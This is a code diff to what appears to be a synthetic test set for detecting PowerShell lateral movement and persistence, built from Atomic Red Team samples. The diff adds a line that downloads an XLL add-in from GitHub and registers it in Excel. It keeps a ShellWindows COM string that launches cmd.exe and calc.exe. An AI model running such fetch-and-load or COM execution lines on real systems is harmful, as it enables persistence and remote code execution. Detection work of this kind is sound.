@@ -88,16 +88,11 @@ SYNTHETIC += [
 
 # Dual-use tokens: lateral movement only with a target named in the same
 # text. S07 names it in a 4103 parameter binding; S08 is Atomic Red Team
-# T1137.006 test 1 (local RegisterXLL), S09 T1546.015 test 752191b1 (local
+# T1137.006 test 441b1a0f (local RegisterXLL), S09 T1546.015 test 752191b1 (local
 # ShellWindows), both as their atomics/*.yaml write them; S10 is S09
 # against a remote computer.
-ART_XLL = ('$excelApp = New-Object -COMObject "Excel.Application"\r\n'
-           'if(-not $excelApp.path.contains("Program Files (x86)")){\r\n'
-           '    Write-Host "64-bit Office"\r\n'
-           '    $excelApp.RegisterXLL("C:\\AtomicRedTeam\\atomics\\T1137.006\\bin\\Addins\\excelxll_x64.xll")\r\n'
-           '}\r\nelse{\r\n'
-           '    Write-Host "32-bit Office"\r\n'
-           '    $excelApp.RegisterXLL("C:\\AtomicRedTeam\\atomics\\T1137.006\\bin\\Addins\\excelxll_x86.xll")\r\n}')
+ART_XLL = ("iwr -URI 'https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1137.006/bin/HelloWorldXll.xll'"
+           ' -o "$env:tmp\\HelloWorldXll.xll"; (new-object -ComObject excel.application).RegisterXLL("$env:tmp\\HelloWorldXll.xll")\n')
 ART_SHELLWINDOWS = ('$o= [activator]::CreateInstance([type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39"))\r\n'
                     '$item = $o.Item()\r\n'
                     '$item.Document.Application.ShellExecute("cmd.exe","/c calc.exe","C:\\windows\\system32",$null,0)')
